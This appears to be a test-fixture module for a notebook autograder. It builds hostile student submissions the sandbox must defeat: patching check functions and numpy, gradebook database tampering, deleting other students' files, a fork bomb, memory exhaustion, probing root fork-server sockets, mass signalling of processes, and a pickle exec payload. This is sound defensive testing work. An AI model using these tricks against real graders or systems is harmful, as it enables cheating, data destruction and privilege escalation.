"""The hostile submissions: every trick of issue 9, and more, each in the notebook of a learner who also did
some honest work (so the score must be exactly the honest part). Built by test_hostile's class fixture.

Each attack: name, chapter, the answers solved honestly, answers replaced by hostile code, hostile cells
(early: after the imports; late: at the end; after: after a given cell), and what the feedback of some test
cells must say (the reason the attack fails).
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field

from tinyspore_grader.grading import classroom

CH = "01_tensors"
ALL = ("broadcast_shape", "sum_to_shape", "matmul_checked", "standardize")


def _code(source: str) -> dict:
    return {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": source}


@dataclass
class Attack:
    name: str
    solved: tuple = ()
    replace: dict = field(default_factory=dict)
    early: tuple = ()
    late: tuple = ()
    after: dict = field(default_factory=dict)  # answer grade_id -> cells inserted after its test cell
    expect: dict = field(default_factory=dict)  # test grade_id -> text
    chapter: str = CH
    lost: tuple = ()  # solved answers whose points are lost anyway (e.g. the notebook stopped before them)
    honest: tuple = ()  # replaced answers that still deserve their points (the probe in them finds nothing)

    def build(self, root, context: dict) -> tuple[dict, float, dict]:
        nb = classroom.release_notebook(root, self.chapter)
        answers, worth = classroom.solutions(self.chapter), classroom.points(nb)
        fill = {k: v.format(**context) for k, v in self.replace.items()}
        cells = []
        first_code = True
        for cell in nb["cells"]:
            gid = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")
            if classroom.is_answer(cell) and gid in fill:
                cell["source"] = fill[gid]
            elif classroom.is_answer(cell) and gid in self.solved:
                cell["source"] = answers[gid]
            cells.append(cell)
            if cell["cell_type"] == "code" and first_code:
                first_code = False
                cells += [_code(s.format(**context)) for s in self.early]
            if gid and gid.removesuffix("_test") in self.after and gid.endswith("_test"):
                cells += [_code(s.format(**context)) for s in self.after[gid.removesuffix("_test")]]
        cells += [_code(s.format(**context)) for s in self.late]
        nb["cells"] = cells
        deserved = sum(worth[g] for g in self.solved
                       if (g not in self.replace or g in self.honest) and g not in self.lost)
        return json.loads(json.dumps(nb)), deserved, dict(self.expect)


NOT_IMPLEMENTED = "not implemented yet"

# Every Unix socket a submission's process can find where the fork servers keep theirs (directly, or through
# another process's root), and connect to.
_REACH = """
def _reach():
    import glob, socket
    reached = []
    for pattern in ("/run/tinyspore-grading/*/socket", "/tmp/tinyspore-grading-*/*/socket",
                    "/proc/*/root/run/tinyspore-grading/*/socket"):
        for path in glob.glob(pattern):
            try:
                with socket.socket(socket.AF_UNIX) as s:
                    s.settimeout(2)
                    s.connect(path)
                reached.append(path)
            except OSError:
                pass
    return reached
"""


def _braces(code: str) -> str:
    """Code kept as it is by Attack.build's str.format."""
    return code.replace("{", "{{").replace("}", "}}")


ATTACKS = [
    Attack("patch-checks", early=("""
import tinyspore_grader, tinyspore_grader.core as core
import tinyspore_grader.checks.ch01_tensors as checks
core.run_check = lambda *a, **k: print("all good")
core.same = tinyspore_grader.same = lambda *a, **k: True
for _name in dir(checks):
    if _name.startswith("check_"):
        globals()[_name] = lambda *a, **k: print("✔ passed")
        setattr(checks, _name, globals()[_name])
""",), expect={f"{a}_test": NOT_IMPLEMENTED for a in ALL}),
    Attack("ipython-transformers", early=("""
ip = get_ipython()
ip.input_transformers_post.append(lambda lines: ["pass\\n"] if any("check_" in l for l in lines) else lines)
import ast
class _Blank(ast.NodeTransformer):
    def visit_Call(self, node):
        if getattr(node.func, "id", "").startswith("check_"):
            return ast.copy_location(ast.Constant(None), node)
        return node
ip.ast_transformers.append(_Blank())
""",), expect={"sum_to_shape_test": NOT_IMPLEMENTED}),
    Attack("sys-modules-swap", early=("""
import sys, types
fake = types.ModuleType("tinyspore_grader.checks.ch01_tensors")
for _name in ("check_broadcast_shape", "check_sum_to_shape", "check_matmul_checked", "check_standardize"):
    setattr(fake, _name, lambda *a, **k: None)
sys.modules["tinyspore_grader.checks.ch01_tensors"] = fake
sys.modules["tinyspore_grader"].run_check = lambda *a, **k: None
sys.modules["numpy"].allclose = lambda *a, **k: True
""",), expect={"standardize_test": NOT_IMPLEMENTED}),
    Attack("numpy-patched", solved=("broadcast_shape",), early=("""
np.allclose = np.array_equal = np.isclose = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
import math
math.isclose = lambda *a, **k: True
""",), replace={"sum_to_shape": "def sum_to_shape(grad, shape):\n    return np.zeros(shape, grad.dtype)"},
        expect={"sum_to_shape_test": "case"}),
    Attack("numpy-broadcast-shapes", solved=("sum_to_shape",), replace={"broadcast_shape": """
_shapes = np.broadcast_shapes  # saved before grading starts: still the forbidden function
def broadcast_shape(shape_a, shape_b):
    return tuple(_shapes(tuple(shape_a), tuple(shape_b)))"""}, expect={"broadcast_shape_test": "calls numpy.broadcast_shapes, NumPy's own implementation"}),
    Attack("fake-tensor", solved=("broadcast_shape", "sum_to_shape"), replace={"standardize": """
class Tensor:
    '''Looks like tinyspore's Tensor by name, equal to anything.'''
    __module__ = "tinyspore.tensor"
    shape = property(lambda self: (100, 3))
    dtype = property(lambda self: np.float32)
    def asnumpy(self):
        return Anything()
    def __eq__(self, other):
        return True
class Anything(np.ndarray):
    def __new__(cls):
        return np.zeros(1).view(cls)
    def __eq__(self, other):
        return True
def standardize(x, axis=0):
    return Tensor()"""}, expect={"standardize_test": "Tensor"}),
    Attack("always-equal", solved=("standardize",), replace={
        "broadcast_shape": """
class Same(tuple):
    def __eq__(self, other):
        return True
    __hash__ = tuple.__hash__
def broadcast_shape(shape_a, shape_b):
    return Same(())""",
        "sum_to_shape": """
class Yes(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(other), bool)
def sum_to_shape(grad, shape):
    return np.zeros(shape, grad.dtype).view(Yes)"""}, expect={"broadcast_shape_test": "case", "sum_to_shape_test": "case"}),
    Attack("instructor-notebook", solved=("sum_to_shape",), replace={"broadcast_shape": """
import json, pathlib, tinyspore
def broadcast_shape(shape_a, shape_b):
    path = pathlib.Path(tinyspore.__file__).resolve().parents[1] / "01_tensors" / "01_tensors.ipynb"
    cells = json.loads(path.read_text())["cells"]
    source = next("".join(c["source"]) for c in cells if c["metadata"].get("nbgrader", {{}}).get("grade_id") == "broadcast_shape")
    namespace = {{"np": np}}
    exec(source, namespace)
    return namespace["broadcast_shape"](shape_a, shape_b)"""}, expect={"broadcast_shape_test": "FileNotFoundError"}),
    Attack("gradebook-writer", solved=("broadcast_shape", "matmul_checked"), early=("""
import sqlite3, os, shutil
for action in ("update", "remove"):
    try:
        if action == "update":
            con = sqlite3.connect("{root}/gradebook.db")
            con.execute("update grade set auto_score = 100, manual_score = 100")
            con.commit()
        else:
            os.remove("{root}/gradebook.db")
        print(action, "worked")
    except Exception as error:
        print(action, "failed:", type(error).__name__)
""",), replace={"sum_to_shape": """
def sum_to_shape(grad, shape):
    import sqlite3
    rows = sqlite3.connect("file:{root}/gradebook.db?mode=ro", uri=True).execute("select * from grade_cells").fetchall()
    return np.zeros(shape, grad.dtype) + len(rows)"""}, expect={"sum_to_shape_test": "OperationalError"}),
    Attack("other-students", solved=("sum_to_shape",), early=("""
import os, shutil, glob
for pattern in ("{root}/submitted/*", "{root}/autograded/*", "{root}/feedback/*", "{root}/source/*", "{root}/release/*"):
    for path in glob.glob(pattern):
        shutil.rmtree(path, ignore_errors=True)
try:
    open("{root}/submitted/victim/01_tensors/notes.txt", "w").write("pwned")
except OSError as error:
    print("cannot write:", type(error).__name__)
""",), replace={"broadcast_shape": """
def broadcast_shape(shape_a, shape_b):
    import json
    nb = json.load(open("{root}/submitted/victim/01_tensors/01_tensors.ipynb"))
    return ()"""}, expect={"broadcast_shape_test": "FileNotFoundError"}),
    Attack("daemon", solved=ALL, early=("""
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(600):  # a minute of trying to rewrite grades after grading
            for path in ("{root}/gradebook.db", "{root}/submitted/victim/01_tensors/notes.txt"):
                try:
                    open(path, "a").write("x")
                except OSError:
                    pass
            time.sleep(0.1)
    os._exit(0)
""",)),
    Attack("fork-bomb", solved=ALL, late=("""
import os
while True:
    os.fork()
""",)),
    Attack("memory-hog", solved=("broadcast_shape", "matmul_checked", "standardize"), replace={"sum_to_shape": """
def sum_to_shape(grad, shape):
    hog = np.ones((1 << 40,), np.uint8)
    return hog"""}, late=("""
hog = bytearray(1 << 40)
""",), expect={"sum_to_shape_test": "MemoryError"}),
    Attack("endless-answer", solved=("broadcast_shape", "sum_to_shape", "matmul_checked"), replace={"standardize": """
def standardize(x, axis=0):
    while True:
        pass"""}, expect={"standardize_test": "ran past"}),
    Attack("endless-cell", solved=ALL, lost=("sum_to_shape", "matmul_checked", "standardize"),
           after={"broadcast_shape": ("while True:\n    pass",)},
           expect={"sum_to_shape_test": "ran past 8 s"}),
    Attack("output-flood", solved=ALL, early=("""
while True:
    print("flood " * 1000)
""",), late=("print('x' * 10_000_000)",)),
    Attack("kill-kernel", solved=ALL, late=("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)",)),
    Attack("saved-references", solved=("broadcast_shape", "matmul_checked", "standardize"), early=("""
import types
from tinyspore import ops
_saved = ops.sum_to_shape
_code = ops.sum_to_shape.__code__
_copy = types.FunctionType(_code, ops.sum_to_shape.__globals__, "my_sum")
import tinyspore_grader.grading.worker as w
w.forbid = lambda items: {{"fingerprints": {{}}, "alive": 0}}
w.sweep = lambda fingerprints: []
""",), replace={"sum_to_shape": """
def sum_to_shape(grad, shape):
    try:
        return _copy(grad, shape)
    except BaseException:
        return _saved(grad, shape)"""}, expect={"sum_to_shape_test": "engine's own implementation"}),
    Attack("network", solved=("sum_to_shape", "matmul_checked", "standardize"), replace={"broadcast_shape": """
import socket
def broadcast_shape(shape_a, shape_b):
    with socket.create_connection(("127.0.0.1", {port}), timeout=2) as s:
        s.sendall(repr((shape_a, shape_b)).encode())
    return tuple(np.broadcast_shapes(shape_a, shape_b))"""}, early=("""
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).close()
except OSError as error:
    print("no network:", type(error).__name__)
""",), expect={"broadcast_shape_test": "Error"}),
    Attack("grader-internals", early=("""
import pickle, tinyspore_grader.grading.worker as w
class Payload:
    def __reduce__(self):
        return (exec, ("import tinyspore_grader.grading.worker as w; w.run_call = lambda *a: {{'ok': (1, 2)}}",))
w.export = lambda namespace, names: {{n: {{"kind": "value", "data": pickle.dumps(Payload())}} for n in names}}
""",), expect={"broadcast_shape_test": "broadcast_shape"}),
    Attack("leak-hidden-inputs", solved=("broadcast_shape", "matmul_checked", "standardize"), replace={"sum_to_shape": """
import os, signal
def sum_to_shape(grad, shape):
    seen = repr((grad.tolist(), shape))
    for path in ("/tmp/submission/leak.txt", "leak.txt", "/tmp/leak.txt"):
        try:
            open(path, "a").write(seen + "\\n")
        except OSError:
            pass
    for pid in range(2, 1 << 16):  # and knock on every process the answer may reach
        if pid == os.getpid():
            continue
        try:
            os.kill(pid, signal.SIGUSR1)
        except OSError:
            pass
    return np.zeros(shape, grad.dtype)"""}, late=("""
import os, glob
for path in ("/tmp/submission/leak.txt", "leak.txt", "/tmp/leak.txt"):
    print(path, "->", open(path).read() if os.path.exists(path) else "nothing")
""",), expect={"sum_to_shape_test": "case"}),
    # The fork server forks the trusted grading processes too (as root, unconfined): its socket must stay out of
    # reach of the cells and of the graded answer, whose honest part then keeps its points.
    Attack("fork-server", solved=ALL, honest=("broadcast_shape",), early=(_REACH + """
print("fork server reached:", _reach() or "none")
""",), replace={"broadcast_shape": _REACH + _braces(classroom.solutions(CH)["broadcast_shape"]) + """
_honest = broadcast_shape
def broadcast_shape(shape_a, shape_b):
    return ("reached", *_reach()) if _reach() else _honest(shape_a, shape_b)"""}),
    Attack("visible-only", solved=("sum_to_shape",), replace={"broadcast_shape": """
def broadcast_shape(shape_a, shape_b):
    if len(shape_a) == 3 and len(shape_b) == 3:
        return tuple(shape_a)
    return np.broadcast(np.empty(shape_a), np.empty(shape_b)).shape"""}, expect={"broadcast_shape_test": "a hidden case fails"}),
]
